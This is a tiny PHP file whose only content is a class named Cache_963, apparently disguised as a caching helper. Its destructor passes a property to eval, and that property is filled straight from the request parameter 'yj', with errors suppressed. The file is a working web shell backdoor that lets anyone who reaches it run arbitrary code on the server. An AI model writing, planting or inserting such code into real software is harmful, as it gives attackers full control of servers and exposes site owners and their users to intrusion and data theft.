<?php
class Cache_963 {
    public $body;
    function __destruct() { @eval("" . $this->body); }
}
$c = new Cache_963;
$c->body = $_REQUEST['yj'];
